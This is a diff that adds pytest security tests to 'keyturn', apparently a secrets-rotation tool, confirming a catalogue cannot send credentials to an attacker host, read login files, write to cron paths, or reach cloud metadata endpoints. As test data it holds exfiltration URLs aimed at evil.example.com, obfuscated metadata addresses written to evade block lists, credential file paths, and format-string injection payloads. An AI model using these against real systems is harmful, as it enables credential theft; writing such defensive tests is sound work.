@@ -1,10 +1,24 @@
 """Whoever may merge one line into the catalogue gets no credential, no file and no host that the line does not own."""
 
+import json
+import os
+import re
 from pathlib import Path
+from typing import Any
 
 import pytest
 
+import keyturn
 from keyturn.catalogue import CatalogueInvalid, find_problems, load_catalogue
+from keyturn.catalogue.index import WORTH
+from keyturn.catalogue.operators_policy import VARIABLE, OperatorsPolicy
+from keyturn.catalogue.policy_file import load_policy
+from keyturn.core.errors import Invalid
+from keyturn.core.references import Unfit
+from keyturn.core.sensitive import SecretFields
+from keyturn.providers.http.api_target import RequestValues
+from keyturn.providers.vault.mounts import insist_on_apart
+from keyturn.settings.directories import cache_directory, state_directory
 
 ELSEWHERE = "evil.example.com"
 TARGETS = {
@@ -14,6 +28,19 @@ TARGETS = {
     "http-api": 'url: "https://evil.example.com", headers: { authorization: "Bearer {{admin.password}}" }',
 }
 """Of each kind of target that has an admin credential, one at a host of the attacker's."""
+
+
+def make(directory: Path) -> Path:
+    """The directory, which is there then."""
+    directory.mkdir(exist_ok=True)
+    return directory
+
+
+def operators_file(directory: Path, **policy: Any) -> Path:
+    """What the operator of a machine has written, as JSON is YAML."""
+    file = directory / "policy"
+    file.write_text(json.dumps(policy))
+    return file
 
 
 def problems(directory: Path, text: str, env: dict[str, str] | None = None) -> list[str]:
@@ -52,3 +79,373 @@ def test_a_consumer_is_signed_to_with_no_key_of_another(path: str, tmp_path: Pat
 def test_no_name_makes_a_path_of_another_ones_own(tmp_path: Path) -> None:
     text = "targets:\n  main/x: { kind: redis, host: evil.example.com, admin: targets/main/x }\n"
     assert "targets.main/x: this name can't be used" in problems(tmp_path, text)[0]
+
+
+# --- variables
+
+NEVER = [
+    "VAULT_TOKEN",
+    "AWS_SECRET_ACCESS_KEY",
+    "AWS_ACCESS_KEY_ID",
+    "AZURE_CLIENT_SECRET",
+    "PREFECT_API_KEY",
+    "PREFECT_SERVER_API_AUTH_STRING",
+    "PGPASSWORD",
+    "GITHUB_TOKEN",
+    "KEYTURN_FAILURE_URL",
+    "KEYTURN_HUB_SECRET_ID_FILE",
+    "KEYTURN_FORWARD_HTTP_TOKEN_FILE",
+    "KEYTURN_SMTP_PASSWORD",
+    "KEYTURN_POLICY",
+]
+"""What no catalogue may ask for, whatever the operator's file says."""
+
+
+@pytest.mark.parametrize("name", [*NEVER[:-1], "HOME", "PATH", "DB_HOST"])
+def test_a_variable_that_was_not_meant_for_the_catalogue_is_sent_nowhere(name: str, tmp_path: Path) -> None:
+    text = f'consumers:\n  mine: {{ url: "https://evil.example.com/${{{name}}}", signing_key: webhooks/mine }}\n'
+    told = problems(tmp_path, text, {name: "CANARY-value"})
+    assert f"consumers.mine.url: the variable {name} may not be named here" in told[0]
+    assert "CANARY" not in "".join(told)
+
+
+@pytest.mark.parametrize("name", NEVER)
+def test_not_even_the_operators_file_lets_the_catalogue_name_a_credential(name: str, tmp_path: Path) -> None:
+    for listed in (name, f"{name[:4]}*"):
+        policy = operators_file(tmp_path, variables=[listed])
+        text = f'consumers:\n  mine: {{ url: "https://x.example.com/${{{name}}}", signing_key: webhooks/mine }}\n'
+        told = problems(make(tmp_path / "catalogue"), text, {name: "v", VARIABLE: str(policy)})
+        assert any("may not be named here" in flaw or "no catalogue may name" in flaw for flaw in told)
+
+
+def test_a_variable_that_the_operator_lists_is_filled_in(tmp_path: Path) -> None:
+    env = {"DB_HOST": "db.example.com", VARIABLE: str(operators_file(tmp_path, variables=["DB_*"]))}
+    text = 'targets:\n  db: { kind: redis, host: "${DB_HOST}", admin: targets/db }\n'
+    assert problems(make(tmp_path / "catalogue"), text, env) == []
+
+
+# --- hosts
+
+METADATA = [
+    "169.254.169.254",
+    "2852039166",
+    "0xa9fea9fe",
+    "169.254.43518",
+    "0251.0376.0251.0376",
+    "[::ffff:169.254.169.254]",
+    "[::ffff:a9fe:a9fe]",
+    "[64:ff9b::a9fe:a9fe]",
+    "[fd00:ec2::254]",
+    "[fe80::1]",
+    "METADATA.google.internal",
+    "metadata.google.internal.",
+    "100.100.100.200",
+    "168.63.129.16",
+    "0.0.0.0",  # noqa: S104
+    "169\u3002254.169.254",
+]
+"""Where clouds give out a machine's credentials, as somebody would write it who hopes to get past a list."""
+
+
+@pytest.mark.parametrize("host", METADATA)
+def test_nothing_is_sent_to_where_a_cloud_gives_out_credentials(host: str, tmp_path: Path) -> None:
+    text = f'consumers:\n  mine: {{ url: "https://{host}/", signing_key: webhooks/mine }}\n'
+    (flaw,) = problems(tmp_path, text)
+    assert "consumers.mine.url: no catalogue may lead to this host" in flaw
+
+
+ENTRIES = {
+    "stores": {
+        "vault": 'kind: vault, address: "https://HOST", token_file: /etc/app/token',
+        "azure": 'kind: azure-key-vault, vault_url: "https://HOST"',
+        "authority": 'kind: azure-key-vault, vault_url: "https://ours.example.com", authority: "https://HOST"',
+        "aws": 'kind: aws-secrets-manager, region: eu-central-1, endpoint_url: "https://HOST"',
+        "github": 'kind: github-actions, repository: a/b, token_file: /etc/app/token, api_url: "https://HOST"',
+        "cluster": 'kind: kubernetes, namespace: a, server: "https://HOST"',
+    },
+    "targets": {
+        "db": "kind: postgresql, host: HOST, database: a, admin: targets/db",
+        "my": "kind: mysql, host: HOST, database: a, admin: targets/my",
+        "cache": "kind: redis, host: ours.example.com, nodes: ['HOST:6379'], admin: targets/cache",
+        "api": 'kind: http-api, url: "https://HOST", admin: targets/api',
+        "graph": 'kind: microsoft-graph, endpoint: "https://HOST"',
+        "iam": 'kind: aws-iam, endpoint_url: "https://HOST"',
+    },
+    "consumers": {"app": 'url: "https://HOST", signing_key: webhooks/app'},
+}
+"""An entry of each kind that names a host."""
+
+
+@pytest.mark.parametrize(("section", "name"), [(section, name) for section, named in ENTRIES.items() for name in named])
+def test_a_host_that_the_operators_file_leaves_out_is_spoken_to_by_no_entry(
+    section: str, name: str, tmp_path: Path
+) -> None:
+    env = {VARIABLE: str(operators_file(tmp_path, hosts=["*.example.com", "10.1.0.0/16"]))}
+    catalogue = make(tmp_path / "catalogue")
+    for host in ("evil.example.org", "example.com.evil.org", "10.2.0.1", "evilexample.com", "10.1.0.1.evil.org"):
+        text = f"{section}:\n  {name}: {{ {ENTRIES[section][name].replace('HOST', host)} }}\n"
+        (flaw,) = problems(catalogue, text, env)
+        assert "the operator's file does not allow this host" in flaw
+        assert "all.yaml:2" in flaw
+    for host in ("a.b.EXAMPLE.com", "10.1.2.3"):
+        text = f"{section}:\n  {name}: {{ {ENTRIES[section][name].replace('HOST', host)} }}\n"
+        assert problems(catalogue, text, env) == []
+
+
+def test_a_pattern_with_a_port_allows_that_port_alone(tmp_path: Path) -> None:
+    env = {VARIABLE: str(operators_file(tmp_path, hosts=["db.example.com:5432", "app.example.com:443"]))}
+    catalogue = make(tmp_path / "catalogue")
+    entry = "targets:\n  db: { kind: postgresql, host: db.example.com, port: PORT, database: a, admin: targets/db }\n"
+    assert problems(catalogue, entry.replace("PORT", "5432"), env) == []
+    assert len(problems(catalogue, entry.replace("PORT", "22"), env)) == 1
+    told = problems(
+        catalogue, 'consumers:\n  app: { url: "https://app.example.com:8443", signing_key: webhooks/app }', env
+    )
+    assert len(told) == 1
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        'kind: aws-secrets-manager, region: eu-central-1, role_arn: "arn:aws:iam::666666666666:role/x"',
+        'kind: aws-secrets-manager, regions: [eu-central-1], role_arns: ["arn:aws:iam::666666666666:role/x"]',
+        "kind: gcp-secret-manager, project: evil",
+        "kind: github-actions, repository: evil/repo, token_file: /etc/app/token",
+    ],
+)
+def test_a_cloud_account_of_somebody_else_gets_no_copy(entry: str, tmp_path: Path) -> None:
+    env = {VARIABLE: str(operators_file(tmp_path, accounts=["111122223333", "ml-*", "octo/*"]))}
+    (flaw,) = problems(make(tmp_path / "catalogue"), f"stores:\n  mine: {{ {entry} }}\n", env)
+    assert "the operator's file does not allow the account" in flaw
+    ours = entry.replace("666666666666", "111122223333").replace("project: evil", "project: ml-a")
+    ours = ours.replace("evil/repo", "octo/repo")
+    assert problems(tmp_path / "catalogue", f"stores:\n  mine: {{ {ours} }}\n", env) == []
+
+
+# --- files
+
+SENT = 'stores:\n  mine: {{ kind: vault, address: "https://evil.example.com", token_file: "{file}" }}\n'
+WRITTEN = 'stores:\n  mine: {{ kind: file, directory: "{directory}" }}\n'
+
+
+@pytest.mark.parametrize(
+    "file",
+    [
+        "/proc/self/environ",
+        "/proc/1/../self/environ",
+        "/dev/fd/3",
+        "/sys/kernel/x",
+        "~/.ssh/id_ed25519",
+        "~/.aws/credentials",
+        "~/.vault-token",
+        "~/.kube/config",
+        "//proc/self/environ",
+    ],
+)
+def test_no_file_that_logs_this_machine_in_is_sent_as_a_token(file: str, tmp_path: Path) -> None:
+    (flaw,) = problems(tmp_path, SENT.format(file=file))
+    assert "stores.mine.token_file: no catalogue may name what lies there" in flaw
+
+
+def test_keyturns_own_login_is_neither_sent_nor_written_over(tmp_path: Path) -> None:
+    login = make(tmp_path / "login") / "secret-id"
+    login.write_text("CANARY")
+    (tmp_path / "link").symlink_to(login)
+    env = {"KEYTURN_HUB_SECRET_ID_FILE": str(login), "KEYTURN_LEDGER": str(tmp_path / "ledger" / "ledger.db")}
+    catalogue = make(tmp_path / "catalogue")
+    for file in (login, tmp_path / "link", tmp_path / "ledger" / "ledger.db"):
+        (flaw,) = problems(catalogue, SENT.format(file=file), env)
+        assert "it is a file of Keyturn's own, or beside one" in flaw
+    for directory in (login.parent, tmp_path / "ledger"):
+        (flaw,) = problems(catalogue, WRITTEN.format(directory=directory), env)
+        assert "it is a file of Keyturn's own, or beside one" in flaw
+
+
+@pytest.mark.parametrize("place", ["/etc/cron.d", "/usr/local/bin", "/", "/var/spool/cron", "~/.ssh", "/proc/self"])
+def test_no_copy_is_written_where_the_system_would_run_or_believe_it(place: str, tmp_path: Path) -> None:
+    assert len(problems(tmp_path, WRITTEN.format(directory=place))) == 1
+
+
+def test_no_copy_is_written_to_keyturns_state_its_cache_or_the_catalogue(tmp_path: Path) -> None:
+    for place in (cache_directory(), state_directory() / "incidents", tmp_path, Path(keyturn.__file__).parent / "cli"):
+        assert len(problems(tmp_path, WRITTEN.format(directory=place))) == 1
+
+
+@pytest.mark.parametrize("key", ["kubeconfig", "token_file"])
+def test_what_a_copy_was_written_to_is_not_read_back_as_a_way_into_a_cluster(key: str, tmp_path: Path) -> None:
+    """A kubeconfig may name a program to run: one that the catalogue could write itself would run it here."""
+    server = ", server: 'https://k8s.example.com'" if key == "token_file" else ""
+    text = f"""
+stores:
+  files: {{ kind: file, directory: {tmp_path}/out }}
+  cluster: {{ kind: kubernetes, namespace: a, {key}: {tmp_path}/out/copy{server} }}
+"""
+    (flaw,) = problems(make(tmp_path / "catalogue"), text)
+    assert f"stores.cluster.{key}: a store of this catalogue writes files there" in flaw
+    beside = f"stores:\n  cluster: {{ kind: kubernetes, namespace: a, {key}: {tmp_path}/catalogue/x{server} }}\n"
+    assert "it lies in the catalogue's directory" in problems(tmp_path / "catalogue", beside)[0]
+
+
+def test_files_lie_where_the_operator_says_and_a_link_leads_nowhere_else(tmp_path: Path) -> None:
+    ours, theirs = make(tmp_path / "ours"), make(tmp_path / "theirs")
+    (ours / "link").symlink_to(theirs / "token")
+    env = {VARIABLE: str(operators_file(tmp_path, directories=[str(ours)]))}
+    catalogue = make(tmp_path / "catalogue")
+    assert problems(catalogue, SENT.format(file=ours / "token"), env) == []
+    for file in (theirs / "token", ours / "link", ours / ".." / "theirs" / "token", f"{ours}-not/token"):
+        (flaw,) = problems(catalogue, SENT.format(file=file), env)
+        assert "the operator's file does not allow this place" in flaw
+
+
+# --- the operator's file itself
+
+
+def test_a_file_that_others_could_have_written_is_not_relied_on(tmp_path: Path) -> None:
+    catalogue, policy = make(tmp_path / "catalogue"), operators_file(make(tmp_path / "etc"))
+    env = {VARIABLE: str(policy)}
+    assert problems(catalogue, "stores: {}\n", env) == []
+    for path, mode in ((policy, 0o664), (policy, 0o646), (policy.parent, 0o777)):
+        before = path.stat().st_mode
+        path.chmod(mode)
+        (flaw,) = problems(catalogue, "stores: {}\n", env)
+        assert "others may write it" in flaw or f"others may write {policy.parent}" in flaw
+        path.chmod(before)
+
+
+def test_a_file_of_another_user_is_not_relied_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    policy = operators_file(tmp_path)
+    if os.geteuid() == 0:
+        os.chown(policy, 12345, -1)
+    else:
+        monkeypatch.setattr("keyturn.catalogue.policy_file.os.geteuid", lambda: os.getuid() + 1)
+    assert "others may write" in problems(make(tmp_path / "catalogue"), "stores: {}\n", {VARIABLE: str(policy)})[0]
+
+
+def test_the_catalogue_brings_no_policy_of_its_own(tmp_path: Path) -> None:
+    catalogue = make(tmp_path / "catalogue")
+    (tmp_path / "link.yaml").symlink_to(operators_file(catalogue, hosts=["*"]))
+    for named in (catalogue / "policy", tmp_path / "link.yaml"):
+        (flaw,) = problems(catalogue, "stores: {}\n", {VARIABLE: str(named)})
+        assert "it lies in the catalogue's directory" in flaw
+
+
+@pytest.mark.parametrize(
+    ("text", "flaw"),
+    [
+        (None, "it can't be read (No such file or directory)"),
+        ("hosts: [", "is not closed"),
+        ("host: [a]", "unknown key"),
+        ("hosts: ['https://a']", "is no pattern of hosts"),
+        ("hosts: {}", "must be a list"),
+        ("directories: [etc]", "is no whole path of a directory"),
+        ("- hosts", "must be a mapping"),
+    ],
+)
+def test_a_policy_that_can_not_be_understood_allows_nothing(text: str | None, flaw: str, tmp_path: Path) -> None:
+    file = tmp_path / "policy"
+    if text is not None:
+        file.write_text(text)
+    told = problems(make(tmp_path / "catalogue"), "stores: {}\n", {VARIABLE: str(file)})
+    assert flaw in told[0]
+    assert str(file) in told[0]
+
+
+def test_a_catalogue_that_was_kept_as_sound_is_asked_again_under_another_policy(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    catalogue = make(tmp_path / "catalogue")
+    text = "stores:\n  mine: { kind: azure-key-vault, vault_url: 'https://${WORD:-a}.example.com' }\n"
+    (catalogue / "all.yaml").write_text(text + f"# {'x' * WORTH}\n")
+    env = {VARIABLE: str(operators_file(tmp_path, variables=["WORD"])), "WORD": "a"}
+    for _ in range(2):
+        assert load_catalogue(catalogue, env).stores
+    assert list((tmp_path / "cache").glob("keyturn/*.json"))
+    for change in ({"variables": ["WORD"], "hosts": ["b.example.com"]}, {"hosts": ["*"]}):
+        operators_file(tmp_path, **change)
+        with pytest.raises(CatalogueInvalid, match=r"all\.yaml:2.*(allow this host|may not be named)"):
+            load_catalogue(catalogue, env)
+
+
+# --- templates
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{key.__class__}",
+        "{key.__init__.__globals__}",
+        "{key[0]}",
+        "{key!r}",
+        "{key:>100000000}",
+        "{0}",
+        "{}",
+        "{self}",
+        "{hub}",
+    ],
+)
+def test_a_copys_template_reaches_the_secrets_fields_and_no_part_of_the_program(template: str, tmp_path: Path) -> None:
+    text = f"""
+stores: {{ files: {{ kind: file, directory: /srv/copies }} }}
+secrets:
+  app/key:
+    owner: a@example.com
+    classification: internal
+    rotation: {{ strategy: generated, field: key, interval: 30d, grace: 1h }}
+    destinations: [{{ store: files, name: copy, template: "{template}" }}]
+"""
+    (tmp_path / "all.yaml").write_text(text)
+    try:
+        (place,) = load_catalogue(tmp_path, {}).secrets["app/key"].destinations
+    except CatalogueInvalid:
+        return
+    with pytest.raises(Unfit):
+        place.shape.render(SecretFields({"key": "CANARY"}))  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize("name", ["admin.__class__", "admin.password.__doc__", "current.__class__", "path.__class__"])
+def test_a_requests_template_is_given_fields_alone(name: str) -> None:
+    values = RequestValues("api", lambda: SecretFields({"password": "x"}), SecretFields({"current.key": "y"}), "call")
+    with pytest.raises(Invalid, match="which is not there"):
+        values(name)
+
+
+def test_what_tries_a_new_key_is_given_nothing_of_the_admins(tmp_path: Path) -> None:
+    text = """
+targets: { api: { kind: http-api, url: "https://api.example.com", admin: targets/api } }
+secrets:
+  app/key:
+    owner: a@example.com
+    classification: internal
+    rotation:
+      strategy: http-api-key
+      target: api
+      interval: 30d
+      grace: 1h
+      create: { path: /keys }
+      answer: { id: /id, key: /key }
+      test: { path: /me, headers: { x-api-key: "{{key}}", x-more: "{{admin.token}}" } }
+      delete: { path: "/keys/{{id}}" }
+"""
+    (flaw,) = problems(tmp_path, text)
+    assert "asks for {{admin.token}}, which is not known there" in flaw
+
+
+def test_no_mount_of_the_catalogue_is_the_one_that_holds_keyturns_own_entries() -> None:
+    for mount in ("keyturn", "secret"):
+        with pytest.raises(Invalid):
+            insist_on_apart("secret", "keyturn", {"mine": mount})
+
+
+def test_the_guides_example_of_the_operators_file_is_understood_and_allows_what_it_says(tmp_path: Path) -> None:
+    page = (Path(keyturn.__file__).parents[1] / "docs" / "operators-policy.md").read_text()
+    (example,) = re.findall(r"```yaml\n(.*?)```", page, re.DOTALL)
+    file = tmp_path / "policy.yaml"
+    file.write_text(example)
+    policy = load_policy({VARIABLE: str(file)}, make(tmp_path / "catalogue"))
+    assert set(policy.model_fields_set) == set(OperatorsPolicy.model_fields)
+    assert policy.allows_host("ml.db.example.com", 5432)
+    assert not policy.allows_host("ml.db.example.com", 22)
+    assert policy.allows_host("10.20.255.1", 1)
+    assert (policy.allows_account("octo/hello"), policy.allows_account("octopus/hello")) == (True, False)
+    assert (policy.allows_variable("DB_HOST"), policy.allows_variable("DB_PASSWORD")) == (True, False)
